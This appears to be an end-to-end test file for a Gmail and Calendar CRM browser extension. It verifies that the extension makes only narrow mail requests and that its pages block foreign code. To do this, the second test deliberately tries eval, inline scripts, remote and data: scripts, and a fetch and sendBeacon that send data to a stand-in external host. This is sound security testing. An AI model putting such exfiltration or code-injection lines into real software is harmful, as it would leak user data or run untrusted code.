import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { onTestFinished } from 'vitest';
import { type App, BROWSER, expect, type Page, type Replica, test } from './harness/index.ts';
import { INBOX, logged, logThread, note, saveNote } from './help/mail.ts';
import { goTo, openDemo, placesOf } from './help/workspace.ts';

const WEEK = 'https://calendar.google.com/calendar/u/0/r/week';
const MEETING = /Check-in with Nikhil/;

/** What browsers ask their makers on their own, whatever is installed in them. */
const OF_THE_BROWSER =
  /(^|\.)(mozilla\.(com|org|net)|firefox\.com|googleapis\.com|gvt1\.com|(accounts|clients\d*|www|update|redirector)\.google\.com|gstatic\.com):\d+$/;

/** An extension that does nothing, so that the same browser can show what pages ask by themselves. */
function idleExtension(): string {
  const folder = temporary('margin-idle-');
  writeFileSync(join(folder, 'idle.js'), '');
  writeFileSync(
    join(folder, 'manifest.json'),
    JSON.stringify({
      manifest_version: 3,
      name: 'Idle',
      version: '1.0',
      background: BROWSER === 'firefox' ? { scripts: ['idle.js'] } : { service_worker: 'idle.js' },
      browser_specific_settings: { gecko: { id: 'idle@margin-crm.example' } },
    }),
  );
  return folder;
}

function temporary(name: string): string {
  const folder = mkdtempSync(join(tmpdir(), name));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true, maxRetries: 10 }));
  return folder;
}

/** One kind of request: which host, how, and where to, whatever the details. */
const kinds = ({ requests }: Replica): string[] => [
  ...new Set(
    requests.map(({ host, method, path, sent }) => {
      const { pathname, searchParams } = new URL(path, 'https://nowhere.example');
      const view = searchParams.get('view');
      return `${method} ${host}${pathname}${view ? `?view=${view}` : ''}${sent > 0 ? ' with a body' : ''}`;
    }),
  ),
];

/** What anybody does there, with or without the extension. */
async function readMailAndCalendar(
  app: App,
  replica: Replica,
): Promise<{ mail: Page; calendar: Page }> {
  const mail = await app.open(INBOX);
  await mail
    .role('link', /^Water cooler/)
    .first()
    .click();
  await expect(mail.role('heading', /^Water cooler/)).toBeVisible();
  const calendar = await app.open(WEEK);
  await calendar.role('button', MEETING).first().click();
  await expect(calendar.role('dialog')).toBeVisible();
  // On a slow machine the page asks for its data only after that.
  await expect.poll(() => kinds(replica).some((kind) => kind.includes('/sync.sync'))).toBe(true);
  return { mail, calendar };
}

test(`the whole job asks for nothing but the headers of what is logged (${BROWSER})`, async ({
  app,
  launch,
  replica,
}) => {
  const idle = await launch({ extension: idleExtension(), profile: temporary('margin-profile-') });
  await readMailAndCalendar(idle, replica);
  await idle.close();
  const alone = { kinds: kinds(replica), hosts: new Set(replica.refused()) };
  replica.reset();

  const { mail, calendar } = await readMailAndCalendar(app, replica);
  await expect(logThread(mail)).toBeEnabled();
  const headers = /^GET mail\.google\.com\/mail\/u\/0\/\?view=om$/;
  expect(kinds(replica).filter((kind) => headers.test(kind))).toEqual([]);
  await logThread(mail).click();
  await expect(logged(mail)).toHaveText(/^Logged \d/);
  expect(kinds(replica).filter((kind) => headers.test(kind))).toHaveLength(1);

  await note(mail).fill('Pays at once');
  await saveNote(mail).click();
  await expect(mail.sidebar.text('Note saved')).toBeVisible();
  await mail.sidebar.role('button', 'New task').click();
  await mail.sidebar.role('button', /^Tomorrow/).click();
  await expect(mail.sidebar.text(/^Task added/)).toBeVisible();
  await mail.sidebar.role('combobox', 'Deal').choose('New deal…');
  await mail.sidebar.role('textbox', 'Name of the deal').fill('Cooler');
  await mail.sidebar.role('button', 'Create deal').click();
  await expect(mail.sidebar.text('Created Cooler')).toBeVisible();

  await calendar.toFront();
  await calendar.sidebar.role('button', 'Log meeting').click();
  await expect(logged(calendar)).toBeVisible();

  const popup = await app.extensionPage('popup.html');
  for (const tab of ['Today', 'Pipeline', 'Search']) {
    await popup.role('tab', tab).click();
    await expect(popup.role('tab', tab, { selected: true })).toBeVisible();
  }
  await popup.role('combobox').fill('Gwen');
  await expect(popup.role('option', /Gwen/).first()).toBeVisible();
  const workspace = await openDemo(app);
  for (const place of await placesOf(app)) await goTo(workspace, place);

  // What Calendar fetches for itself passes our reading ear, and the browser counts it as ours.
  const ownOf = ({ host, pathname }: URL) =>
    alone.kinds.some((kind) => kind.split(' ')[1] === `${host}${pathname}`);
  const asked = (await app.requests()).map((url) => new URL(url));
  const ours = asked.filter((url) => url.searchParams.has('view') || !ownOf(url));
  const allowed = ours.filter(
    ({ host, pathname, searchParams }) =>
      host === 'mail.google.com' &&
      (searchParams.get('view') === 'om' || pathname === '/mail/u/0/feed/atom'),
  );
  expect(ours.map(String)).toEqual(allowed.map(String));

  const feed = /^GET mail\.google\.com\/mail\/u\/0\/feed\/atom$/;
  const added = kinds(replica).filter((kind) => !alone.kinds.includes(kind));
  expect(added.filter((kind) => !headers.test(kind) && !feed.test(kind))).toEqual([]);
  const hosts = new Set(replica.refused());
  expect([...hosts].filter((host) => !alone.hosts.has(host) && !OF_THE_BROWSER.test(host))).toEqual(
    [],
  );
});

test(`pages of the extension run no foreign code and reach no other host (${BROWSER})`, async ({
  app,
  replica,
}) => {
  const page = await app.extensionPage('popup.html');
  await expect(page.role('tab', 'Today')).toBeVisible();
  replica.reset();
  const ran = await page.evaluate(async () => {
    const done: string[] = [];
    Object.assign(globalThis, { foreign: (what: string) => done.push(what) });
    const settled = (element: HTMLElement) =>
      new Promise((resolve) => {
        element.addEventListener('load', () => done.push(`${element.tagName} loaded`));
        element.addEventListener('load', resolve);
        element.addEventListener('error', resolve);
        document.body.append(element);
      });
    const made = <K extends keyof HTMLElementTagNameMap>(
      name: K,
      attributes: Partial<HTMLElementTagNameMap[K]>,
    ) => Object.assign(document.createElement(name), attributes);
    // In a turn of its own, since code given to a debugger may use eval whatever the policy.
    await new Promise((resolve) => setTimeout(resolve));
    try {
      // biome-ignore lint/security/noGlobalEval: shows that it is forbidden
      globalThis.eval('foreign("eval")');
    } catch {}
    try {
      new Function('foreign("Function")')();
    } catch {}
    document.body.append(made('script', { textContent: 'foreign("inline script")' }));
    const button = document.createElement('button');
    button.setAttribute('onclick', 'foreign("inline handler")');
    document.body.append(button);
    button.click();
    await settled(made('script', { src: 'https://mail.google.com/foreign.js' }));
    await settled(made('script', { src: 'data:text/javascript,foreign("data script")' }));
    await settled(made('img', { src: 'https://mail.google.com/pixel.png' }));
    for (const url of ['https://mail.google.com/mail/u/0/', 'https://elsewhere.example/'])
      await fetch(url).then(
        () => done.push(`fetch ${url}`),
        () => undefined,
      );
    navigator.sendBeacon('https://elsewhere.example/', 'everything');
    const frame = made('iframe', { src: 'https://mail.google.com/mail/u/0/' });
    const form = made('form', { action: 'https://mail.google.com/mail/u/0/', target: '_blank' });
    document.body.append(frame, form);
    try {
      form.submit();
    } catch {}
    return done;
  });
  // A page of the extension that opens later shows that whatever was on its way has arrived.
  await app.extensionPage('popup.html');
  expect(ran).toEqual([]);
  expect(replica.requests).toEqual([]);
  expect(replica.hosts.filter((host) => host.startsWith('elsewhere'))).toEqual([]);
});
